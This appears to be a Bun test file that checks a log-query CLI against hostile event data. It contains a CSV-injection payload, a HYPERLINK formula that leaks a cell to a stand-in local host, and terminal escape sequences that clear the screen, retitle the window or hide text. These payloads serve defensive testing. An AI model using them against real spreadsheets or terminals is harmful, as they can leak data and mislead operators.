// `npm run query` prints what holders of the PUBLIC ingest key wrote, to an operator's terminal and
// into CSV files people open in spreadsheets. Anyone can send these events:
// - a message that starts with '=' (or +, -, @): a spreadsheet opening the CSV runs it as a formula
//   (OWASP "CSV Injection": https://owasp.org/www-community/attacks/CSV_Injection);
// - text with terminal control sequences (ESC, CR, BEL, C1's CSI, a bidi override): printed raw, an
//   event could clear the screen, rewrite other rows, set the window title or hide itself.
import { afterAll, beforeAll, expect, test } from 'bun:test'
import { startTestPipeline, PIPELINE_QUERY_KEY, type TestPipeline } from '../support/pipeline'

let p: TestPipeline
beforeAll(async () => {
  p = await startTestPipeline()
  const events = [
    { message: '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Click for details")', level: 'info' },
    { message: 'ok\u001b[2J\u001b[Hall clear\rhidden', level: '\u001b]0;pwned\u0007warn' },
    { message: 'c1 \u009b2J and \u202eesrever', level: '-5' },
  ]
  expect((await p.send('cli_out', JSON.stringify(events))).status).toBe(202)
  expect(await p.waitForCount('cli_out', 3)).toBe(3)
})
afterAll(async () => {
  await p?.stop()
})

const env = () => ({ ...process.env, QUERY_KEYS: PIPELINE_QUERY_KEY, PORT: '', CLICKHOUSE_DATABASE: p.clickhouse.database })
/** Terminal controls an event may carry: C0 but the line feed ending each line, DEL, C1, bidi. */
const CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/

async function query(...args: string[]): Promise<string> {
  const child = Bun.spawn(['bun', 'src/cli/query.ts', '--url', p.sluice.url, ...args], { env: env(), stdout: 'pipe', stderr: 'pipe' })
  const out = await new Response(child.stdout).text()
  expect(await child.exited).toBe(0)
  return out
}

test('--format csv: no field a spreadsheet reads as a formula; a number stays a number', async () => {
  const out = await query('--format', 'csv', `SELECT data.message AS message, toInt64(data.level) AS n FROM ${p.clickhouse.database}.cli_out WHERE data.level = '-5' OR data.level = 'info' ORDER BY _id`)
  const lines = out.trim().split('\r\n')
  expect(lines[0]).toBe('message,n')
  for (const field of lines.slice(1).flatMap((l) => l.split(','))) expect(field.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]|^-(?!5$)/)
  expect(lines[1]).toStartWith(`"'=HYPERLINK(""http://127.0.0.1:9/?leak=""&A1`)
  expect(lines[2]).toEndWith(',-5')
}, 20_000)

test('table format: no terminal control bytes from event data reach the terminal; they show escaped', async () => {
  const out = await query(`SELECT data.message AS message, data.level AS level FROM ${p.clickhouse.database}.cli_out ORDER BY _id`)
  expect(out).not.toMatch(CONTROLS)
  expect(out).toContain('ok\\x1b[2J\\x1b[Hall clear\\rhidden')
  expect(out).toContain('\\x1b]0;pwned\\x07warn')
  expect(out).toContain('c1 \\x9b2J and \\u202eesrever')
}, 20_000)

test('json and ndjson: the same values, with every control written as a JSON escape', async () => {
  for (const format of ['json', 'ndjson']) {
    const out = await query('--format', format, `SELECT data.message AS message FROM ${p.clickhouse.database}.cli_out ORDER BY _id`)
    expect(out).not.toMatch(CONTROLS)
    expect(out).toContain('\\u009b2J')
  }
}, 20_000)

test('--watch, as a table: control bytes show escaped', async () => {
  const watch = Bun.spawn(['bun', 'src/cli/query.ts', '--url', p.sluice.url, '--watch', 'cli_out'], { env: env(), stdout: 'pipe', stderr: 'pipe' })
  let out = ''
  const reading = (async () => {
    const decoder = new TextDecoder()
    for await (const chunk of watch.stdout) out += decoder.decode(chunk)
  })()
  const deadline = Date.now() + 10_000
  while (out.split('\n').length < 4 && Date.now() < deadline) await Bun.sleep(100)
  watch.kill('SIGINT')
  await watch.exited
  await reading
  expect(out.trim().split('\n')).toHaveLength(3)
  expect(out).not.toMatch(CONTROLS)
  // `_raw` is the JSON as sent: ESC came as \u001b there; C1 and bidi may come raw, and show escaped.
  expect(out).toContain('c1 \\x9b2J and \\u202eesrever')
}, 20_000)
